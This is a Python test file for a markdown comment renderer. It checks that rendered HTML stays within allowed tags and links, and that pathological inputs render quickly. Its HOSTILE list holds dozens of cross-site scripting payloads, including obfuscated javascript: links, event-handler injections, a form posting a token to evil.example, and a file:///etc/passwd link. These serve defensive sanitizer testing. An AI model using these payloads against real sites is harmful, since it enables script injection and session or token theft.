"""Comments become HTML that can be shown on any page, whatever is written in them."""

import re
import time
from html.parser import HTMLParser
from random import Random

import pytest

from service.http.markdown import html_of
from service.validation.text import COMMENT_LENGTH

ALLOWED = {"a", "blockquote", "br", "code", "em", "hr", "li", "ol", "p", "pre", "strong", "ul"} | {
    f"h{n}" for n in range(1, 7)
}


class Tags(HTMLParser):
    """Every tag of a page with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def is_harmless(html: str) -> bool:
    """Only tags of a text, only links to the web and mail, nothing that runs or loads."""
    for tag, attributes in Tags(html).found:
        if tag not in ALLOWED:
            return False
        names = {"a": {"href", "title", "rel"}, "ol": {"start"}}.get(tag, set())
        if not attributes.keys() <= names:
            return False
        if tag == "a" and not re.match(r"(https?|mailto):", attributes.get("href") or "https:"):
            return False
    return True


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a *good* **move**", "<p>a <em>good</em> <strong>move</strong></p>\n"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"),
        ("3. one\n4. two", '<ol start="3">\n<li>one</li>\n<li>two</li>\n</ol>\n'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("# head", "<h1>head</h1>\n"),
        ("a `b<c>` d", "<p>a <code>b&lt;c&gt;</code> d</p>\n"),
        ("5 < 6 & 7", "<p>5 &lt; 6 &amp; 7</p>\n"),
        (
            '[rules](https://example.org/a?b=c "Rules")',
            '<p><a href="https://example.org/a?b=c" title="Rules" rel="nofollow noopener noreferrer">rules</a></p>\n',
        ),
        (
            "<mail@example.org>",
            '<p><a href="mailto:mail@example.org" rel="nofollow noopener noreferrer">mail@example.org</a></p>\n',
        ),
    ],
)
def test_what_people_write(text: str, html: str) -> None:
    assert html_of(text) == html
    assert is_harmless(html)


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<form action=//evil.example><input name=token></form>",
    "<b\nonmouseover=alert(1)>x</b>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\\script:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/png;base64,AAAA)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/api/v1/tokens)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://e.org "&quot; onclick=&quot;alert(1)")',
    '[x](https://e.org/"onclick=alert(1))',
    "![x](https://evil.example/track.gif)",
    "![x](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "```<script>\n<script>alert(1)</script>\n```",
    '```js" onload="alert(1)\nx\n```',
    "<!-- --><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "\u2028<script>alert(1)</script>",
    "a\u200b\u200d\ufeffb <script\u200b>alert(1)</script>",
    "\u05d0\u05d1 <script>\u05d2</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_loads_or_leads_elsewhere(text: str) -> None:
    html = html_of(text)
    assert is_harmless(html), html
    assert 'evil.example/track.gif"' not in html or "<img" not in html


def test_a_picture_is_a_link_that_is_only_followed_by_hand() -> None:
    assert html_of("![x](https://example.org/a.gif)") == (
        '<p>!<a href="https://example.org/a.gif" rel="nofollow noopener noreferrer">x</a></p>\n'
    )


def test_letters_of_all_scripts_and_joiners_stay() -> None:
    text = "שלום العربية \U0001f469\u200d\U0001f680 a\u200bb"
    assert html_of(text) == f"<p>{text}</p>\n"


PATHOLOGICAL = {
    "quotes": ">" * COMMENT_LENGTH,
    "quotes with words": "> " * (COMMENT_LENGTH // 2 - 1) + "a",
    "lists": "\n".join(" " * depth + "- a" for depth in range(120))[:COMMENT_LENGTH],
    "list in list": "- " * (COMMENT_LENGTH // 2 - 1) + "a",
    "brackets": "[" * COMMENT_LENGTH,
    "links": "[](" * (COMMENT_LENGTH // 3),
    "nested links": "[" * (COMMENT_LENGTH // 8) + "a" + "](b)" * (COMMENT_LENGTH // 8),
    "emphasis": "*a _b " * (COMMENT_LENGTH // 6),
    "stars": "**a" * (COMMENT_LENGTH // 3),
    "code": "".join("`" * (n % 60) + "a" for n in range(240))[:COMMENT_LENGTH],
    "angles": "<" * COMMENT_LENGTH,
    "entities": "&amp;" * (COMMENT_LENGTH // 5),
    "references": "[a]: b\n" * (COMMENT_LENGTH // 7),
    "lines": "a\n" * (COMMENT_LENGTH // 2),
    "pictures": "![[[[" * (COMMENT_LENGTH // 5),
    "comments": "<!-- " * (COMMENT_LENGTH // 5),
}


@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_no_comment_takes_long(name: str) -> None:
    text = PATHOLOGICAL[name]
    assert len(text) <= COMMENT_LENGTH
    html_of.cache_clear()
    start = time.process_time()
    html = html_of(text)
    assert time.process_time() - start < 1.0
    assert is_harmless(html)


def test_random_mixtures_are_harmless() -> None:
    random = Random(17)
    pieces = [
        *HOSTILE,
        "*",
        "_",
        "`",
        "```\n",
        "[",
        "]",
        "(",
        ")",
        "<",
        ">",
        "&",
        "#",
        "\n",
        "> ",
        "- ",
        "\\",
        '"',
        "'",
        "a",
    ]
    for _ in range(300):
        text = "".join(random.choice(pieces) for _ in range(random.randint(1, 12)))
        assert is_harmless(html_of(text)), text
